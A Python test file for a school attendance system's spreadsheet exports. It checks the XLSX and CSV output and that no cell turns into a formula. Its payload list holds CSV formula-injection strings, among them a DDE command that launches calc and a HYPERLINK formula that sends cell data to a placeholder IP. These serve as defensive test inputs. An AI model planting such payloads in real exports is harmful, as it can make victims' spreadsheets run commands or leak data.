"""Exports: what a spreadsheet reads back is what was counted, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from signaling.attendance.exports import Note, checksum, neutral, to_csv, to_xlsx
from signaling.attendance.fold import ClassDelivery, Folded
from signaling.attendance.frame import RegionName, Target
from signaling.attendance.policy import load_policy
from signaling.attendance.stays import Presence
from signaling.attendance.tables import TABLES, Table
from tests.support.evidence import built
from tests.support.libreoffice import READING_CSV, converted

ZONE = timezone(timedelta(hours=8))
NOTE = Note((("表名", "03 班级明细表"), ("制表人", "=HYPERLINK(1)"), ("审核人", "")))
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    '","=1+1',
    "http://203.0.113.9/",
    "0001",
    "5221000001",
    "三年级（1）班",
)


def table(number: str, names: tuple[str, ...] = ("三年级（1）班", "三年级（2）班")) -> Table:
    targets = [
        Target(f"c{n}", f"2024-21-{n:02}", name, "2152230101", names[0], "21", "121", "522301", 45)
        for n, name in enumerate(names)
    ]
    delivered = {"c0": ClassDelivery(119_900, 120_000, 0, [1, 2], 1, 2)}
    presence = {
        "c0": Presence(datetime(2026, 9, 14, 2, 0, 40, tzinfo=UTC), datetime(2026, 9, 14, 2, 2, tzinfo=UTC), (1, 2))
    }
    report = built(
        load_policy(1), [RegionName("522301", "522301", "兴义市")], targets, Folded(120_000, {}, delivered), presence
    )
    return TABLES[number](report, ("522300", "黔西南州"), ZONE)


def sheets(body: bytes) -> dict[str, list[list[object]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
    return {name: book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names}


def test_a_workbook_reads_back_with_codes_as_text_and_rates_as_numbers() -> None:
    found = sheets(to_xlsx(table("03"), NOTE))
    assert list(found) == ["班级明细表", "说明"]
    head, first, second = found["班级明细表"]
    row = dict(zip(head, first, strict=True))
    assert row["学校标识码"] == "2152230101"
    assert row["班级代码"] == "2024-21-00"
    assert (row["终端编号"], row["接入时间"], row["离开时间"]) == ("1、2", "2026-09-14 10:00", "2026-09-14 10:02")
    assert (row["有效收看分钟"], row["直播分钟"], row["收看比例"], row["送达秒数"]) == (2.0, 2.0, 1.0, 119.0)
    assert (row["证据等级"], row["结果"], row["应到"], row["实到"]) == ("E2", "达标(未确认)", 45.0, "")
    assert dict(zip(head, second, strict=True))["结果"] == "未接入"
    note = {str(name): value for name, value in found["说明"]}
    assert note["校验码"] == checksum(table("03"))
    assert note["制表人"] == "=HYPERLINK(1)"


def test_counties_have_a_sum_row_with_rates_of_the_sums() -> None:
    head, first, total = sheets(to_xlsx(table("01"), NOTE))["单场次分县统计表"]
    county, whole = (dict(zip(head, row, strict=True)) for row in (first, total))
    assert (county["行政区划代码"], whole["行政区划代码"], whole["县（市、区）"]) == ("522301", "522300", "合计")
    assert county["班级覆盖率"] == whole["班级覆盖率"] == 0.5
    assert (whole["实到学生数"], whole["学生覆盖率"]) == ("", "")


def test_no_cell_is_a_formula_and_no_cell_is_merged() -> None:
    archive = zipfile.ZipFile(io.BytesIO(to_xlsx(table("03", PAYLOADS), NOTE)))
    for name in (name for name in archive.namelist() if name.startswith("xl/worksheets/")):
        xml = archive.read(name).decode()
        assert "<f" not in xml.replace("<filter", "")
        assert "mergeCell" not in xml
        assert "hyperlink" not in xml.lower().replace("=hyperlink", "")
    assert (
        b"percent" in archive.read("xl/styles.xml")
        or b"0.00%" in archive.read("xl/styles.xml")
        or b'numFmtId="10"' in archive.read("xl/styles.xml")
    )


def test_csv_has_bom_and_crlf_and_reads_back() -> None:
    body = to_csv(table("03"))
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == body.count(b"\n") == 3
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [row["班级名称"] for row in rows] == ["三年级（1）班", "三年级（2）班"]
    assert (rows[0]["收看比例"], rows[0]["有效收看分钟"], rows[0]["送达秒数"], rows[0]["实到"]) == (
        "100.00%",
        "2.0",
        "119",
        "",
    )
    assert b'"2152230101","2024-21-00"' in body


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_what_a_spreadsheet_would_run(payload: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(table("03", (payload,))).decode("utf-8-sig"), newline="")))
    cell = rows[1][2]
    assert cell in {payload, f"'{payload}"}
    assert cell[0] not in "=+-@\t\r\n＝＋－＠"
    assert cell == neutral(payload)


def test_the_check_sum_follows_the_figures_only() -> None:
    assert checksum(table("03")) == checksum(table("03"))
    assert len({checksum(table(number)) for number in TABLES}) == 3
    assert checksum(table("03", ("别的班",))) != checksum(table("03"))
    assert len(checksum(table("01"))) == 16


@pytest.mark.server
async def test_libreoffice_sees_text_where_we_wrote_text(tmp_path: Path) -> None:
    book, plain = tmp_path / "book.xlsx", tmp_path / "plain.csv"
    book.write_bytes(to_xlsx(table("03", PAYLOADS), NOTE))
    plain.write_bytes(to_csv(table("03", PAYLOADS)))
    for file, reading in ((book, ""), (plain, READING_CSV)):
        made = await converted(tmp_path, "fods", file, reading=reading)
        flat = (made / f"{file.stem}.fods").read_text("utf-8")
        assert "table:formula" not in flat
        assert "三年级（1）班" in flat
    assert 'office:value-type="percentage"' in (made / "book.fods").read_text("utf-8")
